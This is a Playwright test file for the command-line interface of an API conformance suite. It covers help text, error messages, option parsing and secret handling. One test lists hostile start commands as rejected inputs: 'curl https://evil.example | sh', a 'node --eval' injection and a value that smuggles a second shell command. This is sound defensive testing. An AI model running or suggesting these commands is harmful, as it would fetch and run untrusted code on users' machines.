/** The one command: every command of it by its help and its mistakes. */
import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test } from '@playwright/test';
import { loadCommands, COMMAND_NAMES } from '../../../bin/commands/all.ts';
import { spellStart } from '../../../bin/command-line/output/rerun-command.ts';
import { findStart, IN_A_CLONE, spellOther } from '../../../reports/shown/words/commands.ts';
import { readOptions } from '../../../bin/command-line/options.ts';
import { spellFlag, setVariables, addVariables } from '../../../bin/command-line/variable-options.ts';
import { makeCommand as describing } from '../../../bin/command-line/make-command.ts';
import { VARIABLES } from '../../../fixtures/settings/variables.ts';
import { renderConformancePage } from '../../../reports/shown/page/conformance-page.ts';
import type { Report } from '../../../reports/document/report-document.ts';
import suite from '../../../package.json' with { type: 'json' };
import { against, command, idsWith, plainly, makeFolder } from '../samples/command.ts';
import { CONFORMING } from '../samples/sample-reports.ts';
import { PROJECT, run } from '../samples/installed.ts';

const MAIN = join(PROJECT, 'dist', 'bin', 'animal-store-conformance.js');
const main = (args: readonly string[], cwd = tmpdir(), env: NodeJS.ProcessEnv = {}, input = '') =>
  run(process.execPath, [MAIN, ...args], { cwd, env: { PATH: process.env.PATH, ...env }, input });
/** The words of the one command, in this process: of those that start a script, each once. */
const said = (...words: string[]) => command('start', words);
/** Lines and columns of a screen. */
const SCREEN = { lines: 50, columns: 120 };

const fits = (text: string) =>
  text.split('\n').length <= SCREEN.lines && text.split('\n').every((line) => line.length <= SCREEN.columns);

test('the overview names every command, and fits a screen', async () => {
  for (const { exitCode, out } of [await main(['-h']), await said('help')]) {
    expect(exitCode).toBe(0);
    expect(fits(out)).toBe(true);
    for (const name of COMMAND_NAMES) expect(out).toMatch(new RegExp(`^  ${name} +\\w`, 'm'));
  }
  expect(await said('-v')).toMatchObject({ exitCode: 0, out: `${suite.version}\n` });
});

test('every command has a help that fits a screen, with examples and exit codes', async () => {
  const helps = new Map<string, string>();
  for (const each of (await loadCommands()).flatMap(([, commands]) => commands)) {
    let out = '';
    each.configureOutput({ writeOut: (text) => (out += text) }).outputHelp();
    helps.set(each.name(), out);
    // variables are a list of their own behind it
    expect(fits(out.split('\nVariables, as options')[0] ?? ''), each.name()).toBe(true);
    const call = `${suite.name} ${each.name()}`;
    for (const part of [`Usage: ${call}`, 'Examples:', `  ${call}`, 'Exit codes:'])
      expect(out).toContain(part);
    expect(each.summary().length).toBeGreaterThan(10);
  }
  const help = { exitCode: 0, err: '', out: expect.stringContaining(`Usage: ${suite.name} verify`) };
  expect(await main(['help', 'verify'])).toMatchObject(help);
  // what each variable means, where the command takes it
  const variables = (name: string) =>
    [...(helps.get(name) ?? '').matchAll(/^ {2}--([a-z-]+) (?:<\w+>|\[0\|1\]) +[A-Z]/gm)].map(
      ([, flag]) => flag,
    );
  expect(variables('run')).toContain('consistency-window');
  expect(variables('report')).not.toContain('consistency-window');
  expect(helps.get('list')).not.toContain('Variables');
});

test('a mistake is one line and exit code 2, and shows no value', async () => {
  const secret = '--xylophone=s3cr3t-s3cr3t';
  for (const { exitCode, out, err } of [await main(['run', secret]), await command('certify', [secret])]) {
    expect({ exitCode, out }).toEqual({ exitCode: 2, out: '' });
    expect(err).toMatch(/^(?!.*s3cr3t).+\n$/);
  }
  for (const [words, says] of [
    [`matrix ${secret}`, /^(?!.*s3cr3t).+ not known.*\n$/],
    [`list ${secret}`, /^(?!.*s3cr3t).+ not known.*\n$/],
    ['lits', /^lits is not a command; did you mean list\?\n$/],
    ['https://user:s3cr3t@staging.example/v1', /^(?!.*s3cr3t).*--base-url.*\n$/],
    ['targets rnu', /./],
    ['verify a.json --pulic-key b', /^--pulic-key is not known; did you mean --public-key\?\n$/],
    ['keygen', /^The file is missing; --help says what is expected\.\n$/],
    ['run --seeds many', /^--seeds takes a whole number from 1 to 100\.\n$/],
  ] as const)
    expect(await said(...words.split(' ')), words).toMatchObject({
      exitCode: 2,
      out: '',
      err: expect.stringMatching(says),
    });
});

test('the npm scripts of the clone call the one command', () => {
  const scripts: Record<string, string> = suite.scripts;
  for (const name of COMMAND_NAMES) {
    expect(scripts[name === 'run' ? 'conformance' : name]).toBe(
      `node bin/build.js && node dist/bin/animal-store-conformance.js ${name}`,
    );
  }
  expect(suite.bin).toEqual({ [suite.name]: 'dist/bin/animal-store-conformance.js' });
  expect(['list', 'run'].map((name) => spellOther(IN_A_CLONE, name, '--only a'))).toEqual([
    'npm run list -- --only a',
    'npm run conformance -- --only a',
  ]);
  expect(spellOther(`npx ${suite.name}`, 'matrix', 'dir')).toBe(`npx ${suite.name} matrix dir`);
});

test('printed commands start the suite in the way that works here', () => {
  const before = process.cwd();
  const [project, elsewhere] = [1, 2].map(() => makeFolder()) as [string, string];
  const startIn = (folder: string, started?: string) => {
    process.chdir(folder);
    return spellStart(started);
  };
  mkdirSync(join(project, 'node_modules', '.bin', suite.name), { recursive: true });
  try {
    expect(startIn(PROJECT)).toBe(IN_A_CLONE);
    expect(startIn(project)).toBe(`npx ${suite.name}`);
    expect(startIn(elsewhere, join(elsewhere, '_npx', '1', suite.name))).toBe(`npx ${suite.name}`);
    expect(startIn(elsewhere, join(elsewhere, suite.name))).toBe(suite.name);
    expect(startIn(elsewhere, MAIN)).toMatch(/^node (?:\.\.\/)+.*dist\/bin\/animal-store-conformance\.js$/);
  } finally {
    process.chdir(before);
  }
});

test('a report of somebody else gives no other command to paste', () => {
  const commandOf = (start: string) =>
    findStart({ ...CONFORMING, suite: { ...CONFORMING.suite, command: start } }).command;
  for (const start of [
    "node 'a b/animal-store-conformance.js'",
    `npx ${suite.name}`,
    'node ../animal-store-conformance.js',
  ])
    expect(commandOf(start)).toBe(start);
  for (const start of [
    'curl https://evil.example | sh',
    "node '--eval=7//animal-store-conformance.js'",
    'node --import=./evil/animal-store-conformance.js',
    'node evil.js',
    "node 'a'; sh 'animal-store-conformance.js'",
  ])
    expect(commandOf(start)).toBe(IN_A_CLONE);
});

test('every variable is an option, but for the key', () => {
  const program = addVariables(describing('any', 'Any.'));
  const flags = program.options.map(({ long }) => long);
  const missing = VARIABLES.filter((each) => !flags.includes(spellFlag(each))).map(({ name }) => name);
  expect(missing).toEqual(['API_KEY', 'CHROMIUM_PATH']);
});

test('an option outweighs its variable; a switch needs no value; what is secret is refused', () => {
  const env: NodeJS.ProcessEnv = { MAX_RPS: '5' };
  const read = (...words: string[]) =>
    setVariables(
      addVariables(describing('any', 'Any.')).parse(words, { from: 'user' }),
      env,
      () => 'piped-key\n',
    );
  expect(read('--max-rps', '7', '--strict', '--no-proxy', 'localhost', '--seed', '-3')).toEqual([]);
  expect(env).toEqual({ MAX_RPS: '7', STRICT: '1', NO_PROXY: 'localhost', SEED: '-3' });
  expect(read('--https-proxy', 'http://user:secret@proxy:1')).toEqual([
    expect.stringMatching(/^--https-proxy must not hold credentials/),
  ]);
  expect(env).not.toHaveProperty('HTTPS_PROXY');
  expect(read('--api-key-file', '-')).toEqual([]);
  expect(env).toMatchObject({ API_KEY: 'piped-key' });
  expect(env).not.toHaveProperty('API_KEY_FILE');
  expect(read('--api-key-file', '-')).toEqual(['API_KEY is set beside API_KEY_FILE: remove one of them.']);
  expect(readOptions(['--api-key', 'abc'], {})).toEqual({
    mistakes: [expect.stringMatching(/^--api-key is not an option/)],
  });
});

test('a target is judged by options alone, with a key from standard input', async () => {
  await against(plainly, async ({ BASE_URL, API_KEY }) => {
    const folder = makeFolder();
    const words = `--base-url ${BASE_URL} --api-key-file - --category-ids 1 --report-dir here --run-id job-7 --only deprecation.sunset`;
    const { exitCode, err } = await main(words.split(' '), folder, {}, `${API_KEY}\n`);
    expect({ exitCode, err }).toEqual({ exitCode: 3, err: '' });
    const text = readFileSync(join(folder, 'here', 'partial', 'report.json'), 'utf8');
    expect(text).not.toContain(API_KEY);
    const report = JSON.parse(text) as Report;
    expect([idsWith(report, 'pass'), report.run.name]).toEqual([['deprecation.sunset'], 'job-7']);
    expect(renderConformancePage(report)).toContain(`${report.run.id} (job-7)`);
    rmSync(folder, { recursive: true });
  });
});

test('machines read one JSON document', async () => {
  const explained = await command('explain', ['list-pets.default-limit', '--json']);
  const title = expect.stringContaining('at most 20 animals');
  const rule = { title: expect.stringMatching(/^limits: /), file: 'fixtures/judgement/rules/lists.ts' };
  expect(JSON.parse(explained.out)).toMatchObject({
    id: 'list-pets.default-limit',
    schema: 'schemas/openapi.json',
    tests: expect.arrayContaining([{ title, file: 'tests/list-pets.spec.ts', line: expect.any(Number) }]),
    rules: expect.arrayContaining([expect.objectContaining(rule)]),
    faults: expect.arrayContaining([expect.stringContaining('list-pets.')]),
  });
});

test('the end of a run and of a file of targets is one line of JSON where a program asks @long', async () => {
  await against(plainly, async (target) => {
    const folder = makeFolder();
    const judged = await main(['--only', 'create-pet.answers-201', '--json'], folder, target);
    const report = join(folder, 'reports', 'out', 'partial', 'report.json');
    expect(JSON.parse(judged.out)).toMatchObject({ verdict: 'inconclusive', exitCode: 3, report });
    const none = [{ name: 'none', baseUrl: 'http://127.0.0.1:9/v1', apiKeyVariable: 'MY_KEY' }];
    writeFileSync(join(folder, 'targets.json'), JSON.stringify(none));
    const key = { MY_KEY: target.API_KEY };
    const ended = await main(['targets', 'run', 'targets.json', '--json'], folder, key);
    expect(ended.exitCode).toBe(3);
    expect(JSON.parse(ended.out)).toMatchObject({ targets: 1, outcomes: [{ target: 'none', exitCode: 3 }] });
  });
});
